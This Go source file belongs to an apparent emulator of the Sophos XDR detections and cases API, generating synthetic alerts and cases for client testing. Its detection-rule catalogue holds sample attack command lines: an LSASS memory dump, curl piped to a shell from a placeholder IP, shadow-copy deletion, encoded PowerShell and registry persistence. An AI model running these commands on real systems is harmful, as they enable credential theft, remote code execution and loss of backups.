package emulator

import (
	"fmt"
	"sort"
	"sync"
	"time"
)

// The XDR side of a tenant: detections (served through the asynchronous
// query) and cases, with the shapes of reference/sophos-xdr-api.md. Unlike
// the SIEM backlog they are few (tens to hundreds per tenant), so they are
// generated once, on first use, and kept.

// Tenant kinds (XDR.Kinds).
const (
	KindXDR        = "xdr"        // detections and cases; alerts as usual
	KindMDR        = "mdr"        // managed: alert feeds empty, findings raised as cases
	KindUnlicensed = "unlicensed" // no XDR/MDR licence: 403 on /detections and /cases
)

// XDR configures the detections and cases APIs.
type XDR struct {
	Detections int      // detections backlog per licensed tenant, over the 23 h before start (default 60; -1 = none)
	Cases      int      // cases per licensed tenant, created over the 29 days before start (default 12; -1 = none)
	Kinds      []string // per tenant index: xdr | mdr | unlicensed (missing = xdr)
	// CaseChangeEvery makes one case of each licensed tenant change status
	// this often (0 = only through ChangeCaseStatus).
	CaseChangeEvery time.Duration
	Quirks          XDRQuirks
}

// XDRQuirks are the reported behaviours of the live API, on by default and
// switchable (one source each; see the reference).
type XDRQuirks struct {
	PendingPolls      int           // polls a run answers result notAvailable before it finishes (default 2; -1 = none)
	FailRuns          int           // the first N query runs of each tenant finish with result failed
	RunTTL            time.Duration // a run's results expire this long after it was created (default 1h); then 404
	StrictFilters     bool          // off (the quirk): cases filters other than status, severity and createdAfter are ignored (200, the whole set); on: updatedAfter is honoured
	PageParamHonoured bool          // off (the quirk): cases page=N is ignored (page 1 again); on: page=N pages
	PageSizeCap       int           // cases pageSize above this is a 400 (default 50; -1 = no cap)
}

func (x *XDR) setDefaults() {
	switch {
	case x.Detections == 0:
		x.Detections = 60
	case x.Detections < 0:
		x.Detections = 0
	}
	switch {
	case x.Cases == 0:
		x.Cases = 12
	case x.Cases < 0:
		x.Cases = 0
	}
	q := &x.Quirks
	switch {
	case q.PendingPolls == 0:
		q.PendingPolls = 2
	case q.PendingPolls < 0:
		q.PendingPolls = 0
	}
	if q.RunTTL <= 0 {
		q.RunTTL = time.Hour
	}
	switch {
	case q.PageSizeCap == 0:
		q.PageSizeCap = 50
	case q.PageSizeCap < 0:
		q.PageSizeCap = 0
	}
}

func (x *XDR) validate() error {
	for i, k := range x.Kinds {
		switch k {
		case KindXDR, KindMDR, KindUnlicensed, "":
		default:
			return fmt.Errorf("emulator: XDR.Kinds[%d] %q: use xdr, mdr or unlicensed", i, k)
		}
	}
	if x.Detections > 100000 || x.Cases > 100000 {
		return fmt.Errorf("emulator: at most 100000 detections and cases per tenant")
	}
	return nil
}

// kind is the tenant's XDR kind.
func (s *Server) kindOf(idx int) string {
	if idx < len(s.opts.XDR.Kinds) && s.opts.XDR.Kinds[idx] != "" {
		return s.opts.XDR.Kinds[idx]
	}
	return KindXDR
}

// detection is one generated detection. Field order is the JSON order.
type detection struct {
	ID                   string        `json:"id"`
	Time                 string        `json:"time"`
	SensorGeneratedAt    string        `json:"sensorGeneratedAt"`
	Type                 string        `json:"type"`
	AttackType           string        `json:"attackType"`
	Severity             int           `json:"severity"`
	DetectionRule        string        `json:"detectionRule"`
	RuleDescription      string        `json:"ruleDescription"`
	DetectionDescription string        `json:"detectionDescription"`
	CaseDescription      string        `json:"caseDescription"`
	Device               detDevice     `json:"device"`
	Sensor               detSensor     `json:"sensor"`
	MitreAttacks         []mitreAttack `json:"mitreAttacks"`
	Geolocation          []any         `json:"geolocation"`
	RawData              detRawData    `json:"rawData"`
	Suppressed           bool          `json:"suppressed"`
	DetectionAttack      string        `json:"detectionAttack"`

	genMs     int64 // sensorGeneratedAt
	visibleMs int64 // when the API starts returning it (late detections: after genMs)
}

type detDevice struct {
	ID     string `json:"id"`
	Type   string `json:"type"`
	Entity string `json:"entity"`
}

type detSensor struct {
	ID      string `json:"id"`
	Type    string `json:"type"`
	Source  string `json:"source"`
	Version string `json:"version"`
}

type detRawData struct {
	QueryName string `json:"query_name"`
	Username  string `json:"username"`
	CmdLine   string `json:"cmd_line"`
}

type mitreAttack struct {
	Tactic mitreTactic `json:"tactic"`
}

type mitreTactic struct {
	ID         string           `json:"id"`
	Name       string           `json:"name"`
	Techniques []mitreTechnique `json:"techniques"`
}

type mitreTechnique struct {
	ID   string `json:"id"`
	Name string `json:"name"`
}

// detectionRules is the catalogue detections are drawn from.
var detectionRules = []struct {
	rule, desc, typ, attack, query, cmd string
	severity                            int
	mitre                               []mitreAttack
}{
	{"WIN-EXE-PRC-POWERSHELL-ENCODED-COMMAND-1", "PowerShell started with an encoded command line", "Process", "Execution", "powershell_encoded", `powershell.exe -nop -w hidden -enc SQBFAFgA`, 7,
		[]mitreAttack{{mitreTactic{"TA0002", "Execution", []mitreTechnique{{"T1059.001", "PowerShell"}}}}, {mitreTactic{"TA0005", "Defense Evasion", []mitreTechnique{{"T1027", "Obfuscated Files or Information"}}}}}},
	{"WIN-CRED-PRC-LSASS-ACCESS-1", "A process opened LSASS memory", "Process", "Credential Access", "lsass_access", `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 lsass.dmp full`, 9,
		[]mitreAttack{{mitreTactic{"TA0006", "Credential Access", []mitreTechnique{{"T1003.001", "LSASS Memory"}}}}}},
	{"WIN-DISC-PRC-NET-GROUP-ADMINS-1", "Domain admin group enumerated with net.exe", "Process", "Discovery", "net_group_admins", `net group "Domain Admins" /domain`, 4,
		[]mitreAttack{{mitreTactic{"TA0007", "Discovery", []mitreTechnique{{"T1069.002", "Domain Groups"}}}}}},
	{"WIN-PERS-REG-RUN-KEY-1", "A Run key was added for an unsigned binary", "Registry", "Persistence", "run_key_added", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\upd.exe`, 5,
		[]mitreAttack{{mitreTactic{"TA0003", "Persistence", []mitreTechnique{{"T1547.001", "Registry Run Keys / Startup Folder"}}}}}},
	{"NET-C2-DNS-TUNNEL-1", "DNS queries with high-entropy labels to one domain", "Network", "Command and Control", "dns_tunnel", ``, 8,
		[]mitreAttack{{mitreTactic{"TA0011", "Command and Control", []mitreTechnique{{"T1071.004", "DNS"}}}}}},
	{"LNX-EXEC-PRC-CURL-PIPE-SH-1", "A script downloaded with curl was piped to a shell", "Process", "Execution", "curl_pipe_shell", `curl -s http://203.0.113.7/x.sh | sh`, 6,
		[]mitreAttack{{mitreTactic{"TA0002", "Execution", []mitreTechnique{{"T1059.004", "Unix Shell"}}}}}},
	{"WIN-INFO-PRC-NEW-SERVICE-1", "A new service was installed", "Process", "Persistence", "new_service", `sc create updsvc binPath= C:\ProgramData\upd.exe`, 0,
		nil},
	{"WIN-IMP-PRC-VSSADMIN-DELETE-1", "Shadow copies deleted with vssadmin", "Process", "Impact", "vss_delete", `vssadmin delete shadows /all /quiet`, 10,
		[]mitreAttack{{mitreTactic{"TA0040", "Impact", []mitreTechnique{{"T1490", "Inhibit System Recovery"}}}}}},
	{"WIN-LAT-NET-SMB-ADMIN-SHARE-1", "Admin share accessed from a workstation", "Network", "Lateral Movement", "smb_admin_share", ``, 2,
		[]mitreAttack{{mitreTactic{"TA0008", "Lateral Movement", []mitreTechnique{{"T1021.002", "SMB/Windows Admin Shares"}}}}}},
}

// sophosCase is one generated case.
type sophosCase struct {
	ID               string     `json:"id"`
	Name             string     `json:"name"`
	Status           string     `json:"status"`
	Severity         string     `json:"severity,omitempty"` // absent on cases raised straight from a detection
	Type             string     `json:"type"`
	Assignee         *caseActor `json:"assignee,omitempty"`
	CreatedAt        string     `json:"createdAt"`
	UpdatedAt        string     `json:"updatedAt"`
	ResolvedAt       string     `json:"resolvedAt,omitempty"`
	CreatedBy        caseActor  `json:"createdBy"`
	DetectionCount   int        `json:"detectionCount"`
	Escalated        bool       `json:"escalated"`
	ManagedBy        string     `json:"managedBy"`
	Overview         string     `json:"overview"`
	InitialDetection caseRef    `json:"initialDetection"`
	Tenant           caseRef    `json:"tenant"`

	createdMs  int64
	updatedMs  int64
	detections []int // indexes into the tenant's detections
}

type caseActor struct {
	ID   string `json:"id,omitempty"`
	Name string `json:"name"`
}

type caseRef struct {
	ID string `json:"id"`
}

// caseStatuses is the order a case moves through.
var caseStatuses = []string{"new", "investigating", "onhold", "resolved", "closed"}

var caseSeverities = []string{"informational", "low", "medium", "high", "critical"}

// queryRun is one asynchronous detections query.
type queryRun struct {
	id        string
	tenant    string
	createdMs int64
	fromMs    int64
	toMs      int64
	polls     int  // polls left answering notAvailable
	fail      bool // finishes with result failed
	finished  bool
	finishMs  int64
	results   []int // detection indexes, sorted by sensorGeneratedAt
}

// xdrState is a tenant's detections and cases.
type xdrState struct {
	mu         sync.Mutex
	ready      bool
	detections []*detection
	cases      []*sophosCase
	runs       int   // query runs created (FailRuns counts them)
	changes    int64 // automatic status changes applied
	nextCase   int64
}

const dayMs = int64(24 * time.Hour / time.Millisecond)

func isoMs(ms int64) string { return time.UnixMilli(ms).UTC().Format("2006-01-02T15:04:05.000Z") }

// xdr returns the tenant's state, generated on first use (caller must not
// hold x.mu).
func (t *tenant) xdr() *xdrState {
	x := &t.x
	x.mu.Lock()
	defer x.mu.Unlock()
	if !x.ready {
		t.genXDR()
		x.ready = true
	}
	return x
}

// genXDR generates the backlog (caller holds t.x.mu).
func (t *tenant) genXDR() {
	o := t.srv.opts.XDR
	r := newRnd(hash4(t.key, 0xD37, 0, 0))
	for i := range o.Detections {
		ms := t.startMs - spanMs + int64(i)*spanMs/int64(o.Detections) + int64(r.intn(int(max(1, spanMs/int64(o.Detections)))))
		t.x.detections = append(t.x.detections, t.newDetection(&r, ms, ms))
	}
	for i := range o.Cases {
		// Inside the last 29 days (a client's 30-day createdAfter sees all of them).
		step := 28 * dayMs / int64(o.Cases)
		created := t.startMs - 29*dayMs + int64(i)*step + int64(r.intn(int(max(1, step))))
		t.x.cases = append(t.x.cases, t.newCase(&r, created))
	}
}

// newDetection makes a detection generated at genMs, visible from visibleMs.
func (t *tenant) newDetection(r *rnd, genMs, visibleMs int64) *detection {
	rule := detectionRules[r.intn(len(detectionRules))]
	h := t.hosts[r.intn(len(t.hosts))]
	idh, idl := uuidOf(r.next())
	sh, sl := uuidOf(hash4(t.key, 0x5E7, h.hi, 0))
	d := &detection{
		ID: uuidString(idh, idl), Time: isoMs(visibleMs + int64(r.intn(2000))), SensorGeneratedAt: isoMs(genMs),
		Type: rule.typ, AttackType: rule.attack, Severity: rule.severity, DetectionRule: rule.rule,
		RuleDescription: rule.desc, DetectionDescription: rule.desc + " on " + h.hostname,
		CaseDescription: rule.attack + " activity on " + h.hostname,
		Device:          detDevice{ID: h.id, Type: h.kind, Entity: h.hostname},
		Sensor:          detSensor{ID: uuidString(sh, sl), Type: "endpoint", Source: "Sophos Endpoint", Version: "2024.3.1"},
		MitreAttacks:    rule.mitre, Geolocation: []any{},
		RawData:         detRawData{QueryName: rule.query, Username: h.viaLogin, CmdLine: rule.cmd},
		DetectionAttack: rule.attack, genMs: genMs, visibleMs: visibleMs,
	}
	if d.MitreAttacks == nil {
		d.MitreAttacks = []mitreAttack{}
	}
	return d
}

// newCase makes a case created at createdMs from up to three detections
// (caller holds t.x.mu).
func (t *tenant) newCase(r *rnd, createdMs int64) *sophosCase {
	t.x.nextCase++
	c := &sophosCase{
		ID:        fmt.Sprintf("%d-%d", 1+t.idx%9, 1022000+t.x.nextCase*7+int64(t.idx)*100000),
		Status:    "new",
		Type:      "investigation",
		CreatedAt: isoMs(createdMs), UpdatedAt: isoMs(createdMs), createdMs: createdMs, updatedMs: createdMs,
		CreatedBy: caseActor{ID: "sophos-mdr", Name: "Sophos MDR"},
		ManagedBy: "self",
		Tenant:    caseRef{ID: t.id},
	}
	if t.srv.kindOf(t.idx) == KindMDR {
		c.ManagedBy = "sophos"
		c.Escalated = r.chance(0.3)
	}
	if n := len(t.x.detections); n > 0 {
		k := 1 + r.intn(3)
		for range k {
			c.detections = append(c.detections, r.intn(n))
		}
		d0 := t.x.detections[c.detections[0]]
		c.Name = "(" + d0.Device.Entity + ") | " + d0.DetectionRule
		c.Overview = d0.CaseDescription
		c.InitialDetection = caseRef{ID: d0.ID}
	} else {
		c.Name = "Suspicious activity"
		c.Overview = "Suspicious activity reported by Sophos MDR"
	}
	c.DetectionCount = len(c.detections)
	// Every third case was raised straight from a detection: no severity.
	if t.x.nextCase%3 != 0 {
		c.Severity = caseSeverities[r.intn(len(caseSeverities))]
		c.Type = "investigation"
	} else {
		c.Type = "detection"
	}
	if r.chance(0.5) {
		c.Assignee = &caseActor{Name: "Analyst " + string(rune('A'+r.intn(6)))}
	}
	return c
}

// changeStatus moves a case to its next status at nowMs (caller holds t.x.mu).
func (c *sophosCase) changeStatus(nowMs int64) {
	i := 0
	for j, s := range caseStatuses {
		if s == c.Status {
			i = j
		}
	}
	next := caseStatuses[(i+1)%len(caseStatuses)]
	if next == "new" {
		next = "investigating" // reopened
		c.ResolvedAt = ""
	}
	c.Status = next
	if next == "resolved" {
		c.ResolvedAt = isoMs(nowMs)
	}
	if nowMs <= c.updatedMs {
		nowMs = c.updatedMs + 1
	}
	c.updatedMs = nowMs
	c.UpdatedAt = isoMs(nowMs)
}

// tick applies the automatic status changes due by nowMs (caller holds t.x.mu).
func (t *tenant) tick(nowMs int64) {
	every := t.srv.opts.XDR.CaseChangeEvery
	if every <= 0 || len(t.x.cases) == 0 {
		return
	}
	due := (nowMs - t.startMs) / every.Milliseconds()
	for ; t.x.changes < due; t.x.changes++ {
		c := t.x.cases[int(hash4(t.key, 0xC4A, uint64(t.x.changes), 0)%uint64(len(t.x.cases)))]
		c.changeStatus(t.startMs + (t.x.changes+1)*every.Milliseconds())
	}
}

// visibleDetections returns the indexes of the detections visible at nowMs
// whose sensorGeneratedAt is in [fromMs, toMs), in time order (caller holds t.x.mu).
func (t *tenant) visibleDetections(fromMs, toMs, nowMs int64) []int {
	var out []int
	for i, d := range t.x.detections {
		if d.visibleMs <= nowMs && d.genMs >= fromMs && d.genMs < toMs {
			out = append(out, i)
		}
	}
	sort.SliceStable(out, func(a, b int) bool {
		da, db := t.x.detections[out[a]], t.x.detections[out[b]]
		if da.genMs != db.genMs {
			return da.genMs < db.genMs
		}
		return da.ID < db.ID
	})
	return out
}
